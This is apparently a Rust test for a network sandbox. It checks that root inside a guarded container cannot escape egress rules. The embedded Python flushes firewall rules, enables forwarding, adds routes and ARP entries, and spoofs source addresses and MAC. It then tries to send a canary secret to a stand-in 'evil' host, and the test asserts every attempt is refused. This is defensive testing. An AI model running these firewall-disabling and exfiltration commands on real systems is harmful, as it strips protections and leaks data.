//! EG16: root inside takes its own network apart: rules, routes, address, MAC. What is enforced lies
//! outside; the worst that comes of it is no network.

use den_testkit::Site;

use crate::world::{World, answered, canary, refused};

#[test]
fn root_inside_cannot_open_the_way() {
    let world = World::guarded(&["good.test"]);
    let secret = canary();
    // Flushing what it can reach, routes of its own, forwarding on: the same decisions as before.
    let seen = world.run(
        "c",
        &format!(
            "good = address('good.test')\n\
             os.system('nft flush ruleset; iptables -F; iptables -P OUTPUT ACCEPT; sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.eth0.accept_source_route=1 > /dev/null 2>&1')\n\
             os.system('ip route add {{evil}}/32 dev eth0 2> /dev/null; ip route add 198.51.100.0/24 via 169.254.1.1 dev eth0 onlink 2> /dev/null; ip neigh replace {{evil}} lladdr 02:00:00:00:00:01 dev eth0 2> /dev/null')\n\
             say(**fate('{{evil}}', 80, b'{secret}'))\n\
             say(**get(good, 'good.test'))"
        ),
    );
    refused(&seen[0]);
    answered(&seen[1]);

    // Another address: nothing passes, not even to what is allowed. With the old one it works again.
    let seen = world.run(
        "c",
        &format!(
            "good = address('good.test')\n\
             quiet = ' > /dev/null 2>&1'\n\
             os.system('ip address add 10.0.0.3/32 dev eth0' + quiet)\n\
             for source in ('10.0.0.3', '198.51.100.99', '127.0.0.9'):\n\
             \x20os.system(f'ip address add {{source}}/32 dev eth0' + quiet)\n\
             \x20for to, port in ((good, 80), ('{{evil}}', 80)):\n\
             \x20\x20s = socket.socket(); s.settimeout(0.7)\n\
             \x20\x20try: s.bind((source, 0)); s.connect((to, port)); s.send(b'{secret}'); s.recv(1); say(end='open')\n\
             \x20\x20except OSError as e: say(end=how(e))\n\
             os.system('ip link set eth0 address 02:00:00:00:00:77' + quiet)\n\
             say(**fate(good, 80, b'{secret}', wait=1))\n\
             os.system('ip link set eth0 address 02:00:00:00:00:02' + quiet)\n\
             os.system('ip route replace 169.254.1.1 dev eth0; ip route replace default via 169.254.1.1 dev eth0; ip neigh replace 169.254.1.1 lladdr 02:00:00:00:00:01 dev eth0 nud permanent')\n\
             say(**get(good, 'good.test'))"
        ),
    );
    assert_eq!(seen.len(), 8);
    for seen in &seen[..7] {
        assert_ne!(seen["end"], "open", "{seen}");
        assert_ne!(seen["end"], "closed", "{seen}");
    }
    answered(&seen[7]);
    world.untouched(Site::Evil);
    world.no_leak(&secret);
    world.dropped("c", "forged");
    world.denied("c", "open", "ip_literal", "{evil}:80");
}
